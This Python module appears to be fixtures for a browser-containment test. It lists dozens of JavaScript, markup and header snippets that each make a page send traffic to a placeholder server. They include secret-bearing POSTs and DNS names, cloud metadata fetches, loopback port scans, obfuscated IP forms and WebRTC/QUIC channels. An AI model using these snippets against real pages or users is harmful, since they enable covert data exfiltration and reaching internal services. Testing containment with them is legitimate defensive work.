"""Ways out of a page: everything that a browser can be made to send a packet by, one page for each.

Each way has a server of its own to reach, so that what is heard tells who spoke: `@tcp@` stands for its
address and port, `@port@` and `@udp@` for the ports alone, `@foreign@`, `@foreign6@` and `@near@` for
addresses of no network, `@name@` for a name that nobody has, and `@away@` for a page of the site that redirects to the
server. All of them are heard where nothing holds a page back.
"""

from sites.hostile.way import Way

HOST = "ways.localhost"
ORIGIN = f"http://{HOST}"

_NO = "{mode:'no-cors'}"


def _worker(script: str, *, kind: str = "Worker", options: str = "{}") -> Way:
    return Way(
        f'new {kind}(URL.createObjectURL(new Blob([`{script}`],{{type:"text/javascript"}})),{options})'
    )


def _head(markup: str) -> Way:
    return Way(f"document.head.insertAdjacentHTML('beforeend',`{markup}`)")


def _webrtc(server: str, *, abroad: bool = False) -> Way:
    one = f"{{urls:'{server}',username:'a',credential:'b'}}"
    return Way(
        f"const pc=new RTCPeerConnection({{iceServers:[{one}]}});pc.createDataChannel('x');"
        "window.kept=pc;pc.createOffer().then(offer=>pc.setLocalDescription(offer))",
        datagrams=True,
        abroad=abroad,
    )


_CANDIDATES = """const a=new RTCPeerConnection(),b=new RTCPeerConnection();window.kept=[a,b];a.createDataChannel('x');
(async()=>{await a.setLocalDescription(await a.createOffer());await b.setRemoteDescription(a.localDescription);
await b.setLocalDescription(await b.createAnswer());await a.setRemoteDescription(b.localDescription);
await a.addIceCandidate({candidate:'candidate:1 1 %s',sdpMid:'0'})})()"""

SCRIPTS = {
    "fetch": Way(f"fetch('http://@tcp@/',{_NO}).catch(()=>0)"),
    "fetch-tls": Way(f"fetch('https://@tcp@/',{_NO}).catch(()=>0)"),
    "fetch-post": Way(
        "fetch('http://@tcp@/',{method:'POST',mode:'no-cors',body:'x'.repeat(9999)}).catch(()=>0)"
    ),
    "fetch-preflight": Way("fetch('http://@tcp@/',{headers:{'X-Odd':'1'}}).catch(()=>0)"),
    "fetch-user": Way(f"fetch(new Request('http://@tcp@/?secret',{_NO})).catch(()=>0)"),
    "xhr": Way("const x=new XMLHttpRequest();x.open('GET','http://@tcp@/');x.send()"),
    "xhr-sync": Way(
        "const x=new XMLHttpRequest();x.open('GET','http://@tcp@/',false);try{x.send()}catch{}"
    ),
    "websocket": Way("new WebSocket('ws://@tcp@/')"),
    "websocket-tls": Way("new WebSocket('wss://@tcp@/')"),
    "event-source": Way("new EventSource('http://@tcp@/')"),
    "beacon": Way("navigator.sendBeacon('http://@tcp@/','x')"),
    "keepalive-at-the-end": Way(
        "addEventListener('pagehide',()=>fetch('http://@tcp@/',{keepalive:true,mode:'no-cors',method:'POST',body:'x'}));"
        "setTimeout(()=>location.href='/blank',50)"
    ),
    "beacon-at-the-end": Way(
        "addEventListener('pagehide',()=>navigator.sendBeacon('http://@tcp@/','x'));"
        "setTimeout(()=>location.href='/blank',50)"
    ),
    "import": Way("import('http://@tcp@/m.js').catch(()=>0)"),
    "script-element": Way(
        "document.head.append(Object.assign(document.createElement('script'),{src:'http://@tcp@/'}))"
    ),
    "module-element": Way(
        "document.head.append(Object.assign(document.createElement('script'),{type:'module',src:'http://@tcp@/'}))"
    ),
    "written-script": Way("document.write('<script src=http://@tcp@/><\\/script>')"),
    "wasm-stream": Way(f"WebAssembly.compileStreaming(fetch('http://@tcp@/',{_NO})).catch(()=>0)"),
    "audio-worklet": Way(
        "new OfflineAudioContext(1,1,8000).audioWorklet.addModule('http://@tcp@/').catch(()=>0)"
    ),
    "paint-worklet": Way("CSS.paintWorklet.addModule('http://@tcp@/').catch(()=>0)"),
    "scan": Way(f"for(let n=1;n<9;n++)fetch(`http://127.0.0.${{n}}:@port@/`,{_NO}).catch(()=>0)"),
}
"""Requests that scripts make."""

WORKERS = {
    "worker-fetch": _worker(f"fetch('http://@tcp@/',{_NO})"),
    "worker-websocket": _worker("new WebSocket('ws://@tcp@/')"),
    "worker-event-source": _worker("new EventSource('http://@tcp@/')"),
    "worker-scripts": _worker("importScripts('http://@tcp@/')"),
    "worker-xhr": _worker(
        "x=new XMLHttpRequest();x.open('GET','http://@tcp@/',false);try{x.send()}catch{}"
    ),
    "worker-module": _worker("import 'http://@tcp@/'", options="{type:'module'}"),
    "worker-in-worker": _worker(
        'new Worker(URL.createObjectURL(new Blob([\'fetch("http://@tcp@/",{mode:"no-cors"})\'])))'
    ),
    "shared-worker": _worker(f"fetch('http://@tcp@/',{_NO})", kind="SharedWorker"),
}
"""Requests of workers."""

FRAMES = {
    "frame": Way(markup="<iframe src=http://@tcp@/></iframe>"),
    "frame-of-data": Way(markup="<iframe src='data:text/html,<img src=http://@tcp@/>'></iframe>"),
    "frame-of-text": Way(markup='<iframe srcdoc="<img src=http://@tcp@/>"></iframe>'),
    "frame-of-blob": Way(
        "const f=document.createElement('iframe');f.src=URL.createObjectURL(new Blob(['<img src=http://@tcp@/>'],{type:'text/html'}));document.body.append(f)"
    ),
    "frame-of-script": Way(markup="<iframe src=\"javascript:'<img src=http://@tcp@/>'\"></iframe>"),
    "frame-sandboxed": Way(
        markup="<iframe sandbox=allow-scripts srcdoc=\"<script>fetch('http://@tcp@/',{mode:'no-cors'})</script>\"></iframe>"
    ),
    "object": Way(markup="<object data=http://@tcp@/></object>"),
    "embed": Way(markup="<embed src=http://@tcp@/>"),
    "form-post": Way(
        "document.forms[0].submit()",
        "<iframe name=f></iframe><form method=post target=f action=http://@tcp@/><input name=a></form>",
    ),
    "form-get": Way(
        "document.forms[0].submit()",
        "<form action=http://@tcp@/><input name=a value=secret></form>",
    ),
    "form-of-a-button": Way(
        "document.querySelector('form button').click()",
        "<iframe name=f></iframe><form target=f><button formaction=http://@tcp@/></button></form>",
    ),
    "window": Way("open('http://@tcp@/')"),
    "window-alone": Way("open('http://@tcp@/','_blank','noopener')"),
    "link": Way("document.links[0].click()", "<a href=http://@tcp@/>away</a>"),
    "link-in-a-window": Way(
        "document.links[0].click()", "<a target=_blank href=http://@tcp@/>x</a>"
    ),
    "ping": Way("document.links[0].click()", "<a href=#x ping=http://@tcp@/>x</a>"),
    "location": Way("setTimeout(()=>location.href='http://@tcp@/',50)"),
    "location-replace": Way("setTimeout(()=>location.replace('http://@tcp@/'),50)"),
    "refresh-in-the-page": Way(markup="<meta http-equiv=refresh content='0;url=http://@tcp@/'>"),
    "refresh-in-a-header": Way(headers={"Refresh": "0;url=http://@tcp@/"}),
}
"""Documents, windows and forms."""

REDIRECTS = {
    "redirected-fetch": Way(f"fetch('@away@',{_NO}).catch(()=>0)"),
    "redirected-post": Way(
        "fetch('@away@&code=307',{method:'POST',mode:'no-cors',body:'secret'}).catch(()=>0)"
    ),
    "redirected-image": Way(markup="<img src='@away@'>"),
    "redirected-frame": Way(markup="<iframe src='@away@'></iframe>"),
    "redirected-script": Way(markup="<script src='@away@'></script>"),
    "redirected-style": Way(markup="<link rel=stylesheet href='@away@'>"),
    "redirected-page": Way("setTimeout(()=>location.href='@away@',50)"),
    "redirected-media": Way(markup="<video src='@away@' autoplay muted></video>"),
}
"""By way of the site itself."""

MARKUP = {
    "image": Way(markup="<img src=http://@tcp@/>"),
    "image-set": Way(markup="<img srcset='http://@tcp@/ 1x'>"),
    "picture": Way(markup="<picture><source srcset=http://@tcp@/><img></picture>"),
    "image-button": Way(markup="<input type=image src=http://@tcp@/>"),
    "background-attribute": Way(markup="<table background=http://@tcp@/><tr><td>x</table>"),
    "video": Way(markup="<video src=http://@tcp@/ autoplay muted></video>"),
    "audio": Way("new Audio('http://@tcp@/').load()"),
    "poster": Way(markup="<video poster=http://@tcp@/></video>"),
    "subtitles": Way(
        "document.querySelector('track').track.mode='showing'",
        "<video crossorigin src=/blank><track default kind=captions src=http://@tcp@/></video>",
    ),
    "stylesheet": Way(markup="<link rel=stylesheet href=http://@tcp@/>"),
    "style-import": Way(markup="<style>@import 'http://@tcp@/';</style>"),
    "style-background": Way(
        markup="<div style='width:9px;height:9px;background:url(http://@tcp@/)'>"
    ),
    "style-content": Way(markup="<style>p::before{content:url(http://@tcp@/)}</style><p>x"),
    "style-list": Way(markup="<ul style='list-style-image:url(http://@tcp@/)'><li>x</ul>"),
    "style-mask": Way(
        markup="<div style='width:9px;height:9px;background:red;mask-image:url(http://@tcp@/)'>"
    ),
    "style-border": Way(
        markup="<div style='border:9px solid;border-image:url(http://@tcp@/) 9'>x</div>"
    ),
    "style-font": Way(
        markup="<style>@font-face{font-family:odd;src:url(http://@tcp@/)}p{font-family:odd}</style><p>x"
    ),
    "svg-image": Way(markup="<svg><image href=http://@tcp@/ width=9 height=9 /></svg>"),
    "svg-filter": Way(
        markup="<svg><filter id=f><feImage href=http://@tcp@/ /></filter><rect width=9 height=9 filter=url(#f) /></svg>"
    ),
    "preload": _head("<link rel=preload as=image href=http://@tcp@/>"),
    "preload-of-a-module": _head("<link rel=modulepreload href=http://@tcp@/>"),
    "prefetch": _head("<link rel=prefetch href=http://@tcp@/>"),
    "preload-in-a-header": Way(headers={"Link": "<http://@tcp@/>; rel=preload; as=script"}),
    "report-of-a-policy": Way(
        markup="<img src=/blank>",
        headers={"Content-Security-Policy": "img-src 'none'; report-uri http://@tcp@/"},
    ),
    "speculation": Way(
        "const s=document.createElement('script');s.type='speculationrules';"
        "s.textContent=JSON.stringify({prefetch:[{source:'list',urls:['http://@tcp@/']}]});document.head.append(s)",
        top=True,
        direct=True,
    ),
}
"""What a document names, in markup, styles and headers."""

NAMES = {
    "localhost": Way(f"fetch('http://localhost:@port@/',{_NO}).catch(()=>0)"),
    "localhost-dot": Way(f"fetch('http://localhost.:@port@/',{_NO}).catch(()=>0)"),
    "any.localhost": Way(f"fetch('http://odd.localhost:@port@/',{_NO}).catch(()=>0)"),
    "zero": Way(
        markup="<form action=http://0.0.0.0:@port@/></form>", script="document.forms[0].submit()"
    ),
    "decimal": Way(f"fetch('http://2130706433:@port@/',{_NO}).catch(()=>0)"),
    "hexadecimal": Way(f"fetch('http://0x7f000001:@port@/',{_NO}).catch(()=>0)"),
    "octal": Way(f"fetch('http://0177.0.0.1:@port@/',{_NO}).catch(()=>0)"),
    "short": Way(f"fetch('http://127.1:@port@/',{_NO}).catch(()=>0)"),
    "second-loopback": Way(f"fetch('http://127.0.0.2:@port@/',{_NO}).catch(()=>0)"),
    "far-loopback": Way(f"fetch('http://127.255.255.254:@port@/',{_NO}).catch(()=>0)"),
    "loopback-of-six": Way(f"fetch('http://[::1]:@port@/',{_NO}).catch(()=>0)"),
    "mapped": Way(f"fetch('http://[::ffff:127.0.0.1]:@port@/',{_NO}).catch(()=>0)"),
    "user-and-password": Way(
        "setTimeout(()=>location.href='http://ways.localhost:80@@tcp@/',50)", top=True
    ),
    "abroad": Way(f"fetch('http://@foreign@/',{_NO}).catch(()=>0)", abroad=True),
    "abroad-tls": Way(f"fetch('https://@foreign@/',{_NO}).catch(()=>0)", abroad=True),
    "abroad-by-six": Way(f"fetch('http://[@foreign6@]/',{_NO}).catch(()=>0)", abroad=True),
    "metadata": Way(f"fetch('http://@near@/latest/meta-data/',{_NO}).catch(()=>0)", abroad=True),
    "name": Way(f"fetch('http://@name@/',{_NO}).catch(()=>0)", abroad=True),
    "name-of-a-socket": Way("new WebSocket('wss://@name@/')", abroad=True),
    "name-with-a-secret": Way("new Image().src='http://s-e-c-r-e-t.@name@/'", abroad=True),
}
"""Addresses as they may be written, and names."""

DATAGRAMS = {
    "webtransport": Way(
        "new WebTransport('https://127.0.0.1:@udp@/').ready.catch(()=>0)", datagrams=True
    ),
    "stun": _webrtc("stun:127.0.0.1:@udp@"),
    "stun-abroad": _webrtc("stun:@foreign@:3478", abroad=True),
    "turn": _webrtc("turn:127.0.0.1:@udp@?transport=udp"),
    "turn-by-tcp": _webrtc("turn:@tcp@?transport=tcp"),
    "turn-by-tls": _webrtc("turns:@tcp@?transport=tcp"),
    "candidate": Way(_CANDIDATES % "UDP 2130706431 127.0.0.1 @udp@ typ host", datagrams=True),
    "candidate-by-tcp": Way(
        _CANDIDATES % "TCP 2130706431 127.0.0.1 @port@ typ host tcptype passive", datagrams=True
    ),
}
"""WebRTC and QUIC, which go past what is set up for requests."""

WAYS: dict[str, Way] = SCRIPTS | WORKERS | FRAMES | REDIRECTS | MARKUP | NAMES | DATAGRAMS
"""All of them, by name."""
